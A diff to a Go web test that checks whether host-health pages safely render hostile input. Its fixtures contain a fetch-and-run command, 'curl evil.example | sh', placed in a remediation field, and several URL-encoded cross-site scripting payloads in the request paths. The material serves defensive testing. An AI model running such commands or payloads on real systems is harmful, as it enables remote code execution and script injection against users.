@@ -1,7 +1,6 @@
 package web_test
 
 import (
-	"encoding/json"
 	"fmt"
 	"net/http"
 	"os"
@@ -43,11 +42,8 @@ func TestPages_HostileText(t *testing.T) {
 	rep := check.Report{Version: long, Checks: []check.Row{
 		{ID: long, Title: long, Status: check.Fail, Detail: long, Fix: "on the lab host: curl evil.example | sh"},
 		{ID: "outbox.oldest", Title: long, Status: check.Fail, Detail: long, Fix: "on the lab host: curl evil.example | sh"},
-		{ID: "x", Status: check.Status(evil)},
 	}}
-	snapshot, err := json.Marshal(rep)
-	must(t, err)
-	r.write("host-health/lab-01.json", r.json(contacts.Snapshot{Host: "lab-01", ReceivedAt: r.now, Snapshot: snapshot}))
+	r.write("host-health/lab-01.json", r.json(contacts.Snapshot{Host: "lab-01", ReceivedAt: r.now, Snapshot: rep}))
 	r.start().signIn()
 	for _, path := range []string{"/", "/hosts/lab-01", "/?q=" + "%3Cscript%3Ealert(1)%3C/script%3E", "/episodes?host=%3Cscript%3Ealert(1)%3C/script%3E&q=%22onload=", "/hosts/%3Cscript%3E"} {
 		got := r.get(path)
